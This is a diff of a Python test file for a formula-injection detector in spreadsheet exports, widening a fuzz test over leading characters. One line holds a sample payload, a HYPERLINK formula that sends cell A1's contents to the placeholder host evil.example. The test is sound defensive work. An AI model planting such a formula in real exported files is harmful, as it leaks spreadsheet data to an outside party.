@@ -1,14 +1,14 @@
 """Text that a spreadsheet would compute is in no text file, whoever writes it; other formats keep it as text."""
 
 import json
-from itertools import islice, product
+from itertools import chain, islice, product
 
 import pytest
 
 import utmost as ut
 from running import called
 
-# The quick look is compared with the whole rule on 30 000 texts: no release can be made of each.
+# The quick look is compared with the whole rule on 40 000 texts: no release can be made of each.
 from utmost.tables.files.formulas import _FORMULA, is_computed
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -117,8 +117,10 @@ def test_the_quick_look_passes_nothing_that_the_whole_rule_finds():
     """Over cells of all signs that the rule knows, each beside each, at the beginning of a file and within."""
     signs = [b"=", b"-", b"+", b"@", b"(", b"!", b"|", b"[", b",", b"\n", b'"', b" ", b"'", b"5", b"a",
              "\uff1d".encode(), "\uff0b".encode(), "\ufeff".encode(), "\u200b".encode(), "\u3000".encode(),
-             "\xa0".encode(), b"\x00"]  # fmt: skip
-    for size, apart in ((1, 1), (2, 1), (3, 1), (4, 11)):
-        for parts in islice(product(signs, repeat=size), 0, None, apart):
-            text = b"".join(parts)
-            assert is_computed(text) == (_FORMULA.search(text) is not None), text
+             "\xa0".encode(), b"\x00", b"\x7f", b";"]  # fmt: skip
+    short = [product(signs, repeat=size) for size in (1, 2, 3)]
+    # 24 signs and every thirteenth text: each sign stands at each of the four places, beside each other.
+    long = [islice(product(signs, repeat=4), 0, None, 13), product([b'"'], [b"+", b"-"], signs, signs)]
+    for parts in chain(*short, *long):
+        text = b"".join(parts)
+        assert is_computed(text) == (_FORMULA.search(text) is not None), text
